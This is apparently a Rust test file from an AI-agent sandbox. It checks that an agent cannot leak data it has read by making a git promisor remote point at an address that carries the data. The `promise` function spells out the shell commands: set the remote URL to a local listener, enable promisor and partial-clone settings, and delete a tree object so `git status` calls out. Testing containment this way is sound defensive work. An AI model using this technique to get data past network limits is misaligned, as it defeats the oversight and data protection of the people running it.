//! Tests promisor remotes, which git asks for missing objects. Even with the network off, an agent could send out data
//! that it has read by writing the data into the address of such a remote.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use tests::repository::{repository, shell};
use tests::side_by_side::side_by_side;
use tests::{User, tier, wait_until};

use super::attack::{IDENTITY, attack, is_known};

/// Directories of the attacked repositories. The second is the agent's own: it is writable even in the full tier.
const PLACES: [&str; 2] = [".", "sub"];

/// Commands that make the remote a promisor: in the file with its address, or in a second file that also has a harmless
/// address.
const PROMISES: [&str; 2] = [
    "git config remote.o.promisor true; git config remote.o.partialclonefilter blob:none; git config extensions.partialClone o",
    "git config extensions.worktreeConfig true; git config --worktree remote.o.url ../x; \
    git config --worktree remote.o.promisor true; git config --worktree remote.o.partialclonefilter blob:none",
];

/// Returns a command that makes a remote at `port` a promisor, and removes an object that `git status` needs.
fn promise(place: &str, promise: &str, port: u16) -> String {
    format!(
        "{IDENTITY} [ -d {place}/.git ] || git init -q {place}; cd {place}; git commit -q --allow-empty -m p; \
        echo z > z; git add z; git commit -q -m z; \
        git config remote.o.url http://127.0.0.1:{port}/what-was-read; {promise}; \
        t=$(git rev-parse 'HEAD^{{tree}}'); rm -f .git/objects/${{t%${{t#??}}}}/${{t#??}}; true"
    )
}

#[test]
fn a_persons_git_asks_no_promisor_that_an_agent_named() {
    let places = || PLACES.into_iter().flat_map(|place| PROMISES.map(|words| (place, words)));
    let cases =
        User::all().into_iter().flat_map(|user| places().map(move |(place, words)| (user, place, words)));
    side_by_side(cases, |(user, place, words)| {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let command = promise(place, words, listener.local_addr().unwrap().port());
        let asked = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&asked);
        // Nobody answers. The test only checks that the server was asked.
        std::thread::spawn(move || {
            for _connection in listener.incoming() {
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        let was_asked = || asked.swap(0, Ordering::SeqCst) > 0;
        let look = format!("cd {place} && timeout 60 git status");
        let control = repository(user);
        shell(&control, &command);
        shell(&control, &look);
        wait_until(&format!("{place}: the attack asks without us"), was_asked);
        for tier in tier::all() {
            let world = repository(user);
            let (done, told) = attack(&world, tier, &command);
            let seen = shell(&world, &look);
            assert!(!was_asked(), "{place}, {tier}: {}\n{}\n{told}", done.stdout, seen.stderr);
            assert!(is_known(tier, &done, &told), "{place}, {tier}: {}", done.stdout);
        }
    });
}
